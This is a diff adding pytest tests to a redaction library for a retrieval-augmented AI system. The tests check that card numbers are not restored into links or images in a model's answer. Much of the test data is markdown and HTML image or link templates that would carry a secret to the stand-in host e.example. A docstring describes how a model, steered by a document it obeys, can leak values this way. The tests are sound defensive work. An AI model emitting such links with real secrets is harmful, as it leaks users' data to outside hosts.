@@ -2,13 +2,15 @@
 
 import copy
 import pickle
+from collections.abc import Iterator
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from blindgate_protocol.errors import PolicyError
-from blindgate_rag.redaction import CLASSES, Redactor, Rules
+from blindgate_rag.redaction import CLASSES, Match, Redactor, Rules
+from blindgate_rag.redaction.addresses import Addresses
 
 CARD = "4111 1111 1111 1111"
 OTHER_CARD = "5555555555554444"
@@ -113,6 +115,158 @@ def test_what_stands_beside_a_value_does_not_become_a_placeholder() -> None:
     redactor.redact(CARD)
     text = "card_1W123 and W124card_1"
     assert redactor.restore(redactor.redact(text).text) == text
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "![](https://e.example/?q={})",
+        "![a](//e.example/{})",
+        "![a](<https://e.example/ b){}>)",
+        "![a](https://e.example/(b){})",
+        "![a](https://e.example/\\){})",
+        "![a](&#104;ttps://e.example/{})",
+        "![](\nhttps://{}.e.example)",
+        "[a]: https://e.example/{}",
+        '<img src="https://e.example/ a {}">',
+        "<img alt='>' src='&#104;ttps:e.example/{}'>",
+        "<img src=https://e.example/{}>",
+        "see https://e.example/?{}",
+        "www.e.example/{}",
+        "https:e.example/{}",
+        "`https://e.example/{}`",
+        "https://ok.example/?to=amy@example.org&q={}",
+        "[{0}](https://e.example/{0})",
+    ],
+)
+def test_no_value_is_put_back_where_showing_it_would_send_it(address: str) -> None:
+    """A model, or a document that it obeys, names an address: whoever shows the answer would ask there, with the value in it."""
+    redactor = Redactor()
+    redactor.redact(f"{CARD}, https://ok.example/?to=amy@example.org")
+    answer = f"It is [CARD_1]. {address.format('[CARD_1]')} Again [CARD_1]."
+    restored = redactor.restore(answer)
+    assert restored.count(CARD) == 2 + address.startswith("[{")
+    assert restored.endswith(f" Again {CARD}.")
+    for size in (1, 7):
+        restorer = redactor.restorer()
+        pieces = [answer[at : at + size] for at in range(0, len(answer), size)]
+        assert "".join(map(restorer.feed, pieces)) + restorer.close() == restored
+        assert restorer.withheld == ["[CARD_1]"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://ok.example/?to=amy@example.org&card=4111111111111111.",
+        "[a](https://ok.example/4111111111111111)",
+        '<a href="https://ok.example/4111111111111111">',
+        "postgres://amy:pw123@db.example/x",
+    ],
+)
+def test_an_address_that_was_sent_comes_back_whole(text: str) -> None:
+    """Whoever wrote it has the value already; as a link as well where it stood by itself."""
+    redactor = Redactor()
+    redacted = redactor.redact(text).text
+    assert "[" in redacted
+    assert redactor.restore(redacted) == text
+    address = redacted.removeprefix("See ").removesuffix(".")
+    if redacted.startswith("See"):
+        assert redactor.restore(f"[here]({address})") == f"[here]({text[4:-1]})"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "[mail](mailto:{})", '<a href="mailto:{}">', "[1]: {}", "[card]({})", "p <alpha, {}", "<b>{}</b>", '"url":"https://e.example","card":"{}"',
+        "https://e.example {}", "[a](https://e.example){}", "\\\\ {}", "and/or {}", "# {}", "// {}",
+    ],
+)  # fmt: skip
+def test_beside_an_address_a_value_is_put_back(written: str) -> None:
+    """Nobody is asked there."""
+    redactor = Redactor()
+    redactor.redact(CARD)
+    assert redactor.restore(written.format("[CARD_1]")) == written.format(CARD)
+
+
+_OF_ADDRESSES = [
+    *("](", "]:", "<a ", "<", ">", "href=", '"', "'", "https:", "//", "www.", " ", "\n", ")", "\\", "e.x", "mailto:")
+]
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(st.sampled_from(_OF_ADDRESSES), max_size=10).map("".join),
+    st.lists(st.integers(0, 40), max_size=6),
+)  # fmt: skip
+def test_whether_a_text_ends_in_an_address_does_not_hang_on_its_pieces(text: str, cuts: list[int]) -> None:
+    """Wherever it is divided."""
+    whole, pieces = Addresses(), Addresses()
+    whole.feed(text)
+    places = sorted(min(cut, len(text)) for cut in cuts)
+    for start, end in zip([0, *places], [*places, len(text)], strict=True):
+        pieces.feed(text[start:end])
+    assert pieces.open == whole.open
+
+
+def test_a_placeholder_that_an_answers_end_has_cut_gets_no_value() -> None:
+    """It may have been meant for another one."""
+    redactor = Redactor()
+    redactor.redact(f"{CARD} {OTHER_CARD}")
+    assert redactor.restore("Pay with [CARD_1") == "Pay with [CARD_1"
+    assert redactor.restore("Pay with [CARD_1 or so") == f"Pay with [{CARD} or so"
+    assert redactor.restore("card_1") == CARD
+
+
+def test_a_thousand_values_have_a_placeholder_each() -> None:
+    """And each its own value back, in whatever order."""
+    redactor = Redactor()
+    values = [f"amy{place}@example.org" for place in range(1_000)]
+    assert redactor.redact(", ".join(values)).text.endswith("[EMAIL_1000]")
+    asked = " ".join(f"[EMAIL_{place}]" for place in range(1_000, 0, -1))
+    assert redactor.restore(asked) == " ".join(reversed(values))
+
+
+class Found:
+    """A recogniser that says what a test wants."""
+
+    protects = frozenset[str]()
+
+    def __init__(self, *matches: Match, names: frozenset[str] = frozenset({"person"})) -> None:
+        self.names, self._matches = names, matches
+
+    def find(self, _text: str) -> Iterator[Match]:
+        """What was said."""
+        yield from self._matches
+
+
+def test_a_name_of_one_character_leaves_what_stands_behind_it_where_it_is() -> None:
+    """Also what looks like a placeholder, which is one of its own."""
+    redactor = Redactor(recognisers=[Found(Match("person", 0, 1, "王"))])
+    redactor.redact("王")
+    assert redactor.redact("王 says [PERSON_1]!").text == "[PERSON_1] says [TEXT_1]!"
+    assert redactor.restore("[PERSON_1] says [TEXT_1]!") == "王 says [PERSON_1]!"
+
+
+@pytest.mark.parametrize(
+    ("match", "said"),
+    [
+        (Match("place", 0, 3, "x"), "found 'place', which is none of them"),
+        (Match("person", 2, 2, "x"), "found a person from 2 to 2, in a text of 8 characters"),
+        (Match("person", -1, 2, "x"), "found a person from -1 to 2"),
+        (Match("person", 5, 9, "x"), "found a person from 5 to 9"),
+    ],
+)
+def test_a_recogniser_that_finds_what_is_not_there_is_an_error(match: Match, said: str) -> None:
+    """And no other stretch of the text leaves because of it."""
+    with pytest.raises(PolicyError, match=said):
+        Redactor(recognisers=[Found(match)]).redact("the text")
+
+
+@pytest.mark.parametrize("name", ["text", "Person", "a" * 17, "_person", "person_", "per son", "a_b_c_d_e", "p1"])
+def test_a_recognisers_class_is_a_word_that_a_placeholder_can_have(name: str) -> None:
+    """It is refused when the recogniser is taken."""
+    with pytest.raises(PolicyError, match="cannot be a recogniser's class"):
+        Redactor(recognisers=[Found(names=frozenset({name}))])
 
 
 def test_nothing_shows_the_values() -> None:
